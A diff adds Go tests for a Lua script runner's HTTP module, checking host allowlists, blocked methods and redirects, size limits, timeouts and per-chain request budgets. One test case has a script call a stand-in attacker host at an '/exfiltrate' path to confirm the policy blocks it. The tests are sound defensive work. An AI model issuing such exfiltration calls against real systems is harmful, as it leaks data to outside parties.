@@ -0,0 +1,253 @@
+package luarunner
+
+import (
+	"context"
+	"fmt"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+func TestHTTPModule_Get(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X-Team", "platform")
+		_, _ = w.Write([]byte(r.Header.Get("Authorization")))
+	}))
+	defer server.Close()
+
+	logger := log.New(os.Stdout, "[test] ", log.LstdFlags)
+	runner := NewScriptRunner(logger)
+
+	script := fmt.Sprintf(`
+		local http = require("http")
+		local resp, err = http.get(%q, {["Authorization"] = "token"})
+		if err then error(err) end
+		object.metadata.labels = {status = tostring(resp.status), body = resp.body, team = resp.headers["X-Team"]}
+	`, server.URL)
+
+	result, err := runner.RunScript("http", script, []byte(`{"metadata": {}}`))
+	if err != nil {
+		t.Fatalf("RunScript failed: %v", err)
+	}
+	for _, literal := range []string{`"status":"200"`, `"body":"token"`, `"team":"platform"`} {
+		if !strings.Contains(string(result), literal) {
+			t.Errorf("Expected %s in result, got %s", literal, result)
+		}
+	}
+}
+
+func TestHTTPModule_AbortedByDeadline(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case <-r.Context().Done():
+		case <-time.After(5 * time.Second):
+		}
+	}))
+	defer server.Close()
+
+	logger := log.New(os.Stdout, "[test] ", log.LstdFlags)
+	runner := NewScriptRunner(logger)
+
+	scripts := map[string]string{"slow": fmt.Sprintf(`
+		local http = require("http")
+		local resp, err = http.get(%q)
+		object.metadata.labels = {called = "true"}
+	`, server.URL)}
+
+	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	result, results, err := runner.RunScriptsWithContext(ctx, scripts, []byte(`{"metadata": {}}`))
+	if err != nil {
+		t.Fatalf("RunScriptsWithContext failed: %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Errorf("Expected the request to be aborted at the deadline, took %s", elapsed)
+	}
+	if len(results) != 1 || results[0].Err == nil {
+		t.Errorf("Expected the script to fail once the deadline passed, got %+v", results)
+	}
+	if strings.Contains(string(result), "called") {
+		t.Errorf("Expected the changes of the aborted script to be discarded, got %s", result)
+	}
+}
+
+func TestNewHTTPClient_Timeout(t *testing.T) {
+	if client := (HTTPPolicy{}).newHTTPClient(context.Background()); client.Timeout != 0 {
+		t.Errorf("Expected no timeout without a deadline, got %s", client.Timeout)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	if client := (HTTPPolicy{}).newHTTPClient(ctx); client.Timeout <= 0 || client.Timeout > time.Minute {
+		t.Errorf("Expected the timeout to be the time left before the deadline, got %s", client.Timeout)
+	}
+}
+
+func TestHTTPPolicy(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/large":
+			_, _ = w.Write([]byte(strings.Repeat("x", 100)))
+		case "/slow":
+			time.Sleep(500 * time.Millisecond)
+		default:
+			_, _ = w.Write([]byte("ok"))
+		}
+	}))
+	defer server.Close()
+
+	// Redirects to localhost, the same server under a host that is not allowed
+	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, strings.Replace(server.URL, "127.0.0.1", "localhost", 1), http.StatusFound)
+	}))
+	defer redirector.Close()
+
+	policy := HTTPPolicy{
+		AllowedHosts:     []string{"*.example.com", "127.0.0.*"},
+		AllowedMethods:   []string{"GET"},
+		Timeout:          100 * time.Millisecond,
+		MaxResponseBytes: 10,
+	}
+	logger := log.New(os.Stdout, "[test] ", log.LstdFlags)
+	runner := NewScriptRunnerWithOptions(logger, Options{HTTP: policy})
+
+	tests := []struct {
+		name     string
+		call     string
+		expected string
+	}{
+		{name: "allowed host", call: fmt.Sprintf(`http.get(%q)`, server.URL), expected: `"body":"ok"`},
+		{name: "blocked host", call: `http.get("https://attacker.net/exfiltrate")`, expected: "http request to https://attacker.net/exfiltrate blocked: host attacker.net is not allowed"},
+		{name: "blocked method", call: fmt.Sprintf(`http.post(%q, "data")`, server.URL), expected: "blocked: method POST is not allowed"},
+		{name: "blocked redirect", call: fmt.Sprintf(`http.get(%q)`, redirector.URL), expected: "redirected to host localhost which is not allowed"},
+		{name: "response too large", call: fmt.Sprintf(`http.get(%q)`, server.URL+"/large"), expected: "exceeds 10 bytes"},
+		{name: "timeout", call: fmt.Sprintf(`http.get(%q)`, server.URL+"/slow"), expected: "request failed"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			script := `
+				local http = require("http")
+				local ok, resp, err = pcall(function() return ` + tt.call + ` end)
+				if not ok then
+					object.raised = resp
+				elseif err then
+					object.err = err
+				else
+					object.body = resp.body
+				end
+			`
+			result, err := runner.RunScript("http", script, []byte(`{}`))
+			if err != nil {
+				t.Fatalf("RunScript failed: %v", err)
+			}
+			if !strings.Contains(string(result), tt.expected) {
+				t.Errorf("Expected %q in result, got %s", tt.expected, result)
+			}
+		})
+	}
+
+	// Policy violations raise errors, transport failures are returned
+	result, _ := runner.RunScript("http", `
+		local http = require("http")
+		object.ok = pcall(http.get, "https://attacker.net/")
+		local _, err = http.get("`+server.URL+`/large")
+		object.err = err ~= nil
+	`, []byte(`{}`))
+	if !strings.Contains(string(result), `"ok":false`) || !strings.Contains(string(result), `"err":true`) {
+		t.Errorf("Expected a raised violation and a returned size error, got %s", result)
+	}
+}
+
+func TestHTTPPolicy_AllowedHost(t *testing.T) {
+	policy := HTTPPolicy{AllowedHosts: []string{"*.corp.example.com", ".internal.net", "API.example.org"}}
+
+	tests := []struct {
+		host    string
+		allowed bool
+	}{
+		{host: "vault.corp.example.com", allowed: true},
+		{host: "corp.example.com", allowed: false},
+		{host: "internal.net", allowed: true},
+		{host: "registry.eu.internal.net", allowed: true},
+		{host: "notinternal.net", allowed: false},
+		{host: "api.example.org", allowed: true},
+		{host: "attacker.net", allowed: false},
+	}
+	for _, tt := range tests {
+		if allowed := policy.allowedHost(tt.host); allowed != tt.allowed {
+			t.Errorf("%s: expected allowed=%v, got %v", tt.host, tt.allowed, allowed)
+		}
+	}
+}
+
+func TestAllowlistTransport(t *testing.T) {
+	var reached atomic.Int64
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		reached.Add(1)
+		_, _ = w.Write([]byte("ok"))
+	}))
+	defer server.Close()
+
+	client := (HTTPPolicy{AllowedHosts: []string{"127.0.0.1"}}).newHTTPClient(context.Background())
+
+	resp, err := client.Get(server.URL)
+	if err != nil {
+		t.Fatalf("Expected the allowed host to be reached, got %v", err)
+	}
+	_ = resp.Body.Close()
+
+	// The same server under another name never sees the request
+	_, err = client.Get(strings.Replace(server.URL, "127.0.0.1", "localhost", 1))
+	if err == nil || !strings.Contains(err.Error(), "host localhost is not allowed") {
+		t.Errorf("Expected the blocked host to be refused by the transport, got %v", err)
+	}
+	if reached.Load() != 1 {
+		t.Errorf("Expected the server to be reached once, got %d", reached.Load())
+	}
+}
+
+func TestHTTPPolicy_MaxCalls(t *testing.T) {
+	var calls atomic.Int64
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		calls.Add(1)
+	}))
+	defer server.Close()
+
+	logger := log.New(os.Stdout, "[test] ", log.LstdFlags)
+	runner := NewScriptRunnerWithOptions(logger, Options{HTTP: HTTPPolicy{MaxCalls: 3}})
+
+	// Two calls each, the budget is shared by the scripts of the chain
+	script := fmt.Sprintf(`
+		local http = require("http")
+		http.get(%q)
+		http.get(%q)
+	`, server.URL, server.URL)
+	scripts := map[string]string{"a": script, "b": script}
+
+	_, results, err := runner.RunScriptsWithContext(context.Background(), scripts, []byte(`{"metadata": {}}`))
+	if err != nil {
+		t.Fatalf("RunScriptsWithContext failed: %v", err)
+	}
+	if len(results) != 2 || results[0].Err != nil || results[1].Err == nil {
+		t.Fatalf("Expected the second script to exhaust the budget, got %+v", results)
+	}
+	if !strings.Contains(results[1].Err.Error(), "the 3 requests allowed per admission request are used up") {
+		t.Errorf("Expected a budget error, got %v", results[1].Err)
+	}
+	if calls.Load() != 3 {
+		t.Errorf("Expected 3 requests to reach the server, got %d", calls.Load())
+	}
+
+	// Every chain gets its own budget
+	if _, results, _ := runner.RunScriptsWithContext(context.Background(), map[string]string{"a": script}, []byte(`{"metadata": {}}`)); results[0].Err != nil {
+		t.Errorf("Expected a new chain to get a new budget, got %v", results[0].Err)
+	}
+}